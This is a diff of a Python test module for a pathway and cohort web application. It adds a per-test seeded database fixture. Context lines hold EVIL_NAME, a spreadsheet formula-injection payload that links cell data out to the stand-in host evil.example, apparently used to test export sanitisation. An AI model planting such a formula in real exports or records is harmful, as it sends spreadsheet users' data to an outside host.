@@ -23,6 +23,7 @@ from pathways.models import (
     Post,
 )
 from tests.domain.test_exports import read_xlsx
+from tests.recipes import SEED_PATHWAY, holding
 from tests.web.sessions import start_session
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
@@ -41,6 +42,12 @@ BAD_CSV = (HEADER
            + "colleague@example.org,SWDA 2025,ST0510,2025-09-01,2025-08-31,lots,,,asleep,\n"
            + "staff@example.org,SWDA 2025,ST0510,2025-09-01,2028-08-31,37.5,,,,SW-101\n"
            ).encode()
+
+
+@pytest.fixture
+def database_url(request, database_for):
+    """A database of its own holding the seed pathway (and people), for ``make_cohort_world``."""
+    return database_for(holding(request, SEED_PATHWAY))
 
 
 @pytest.fixture
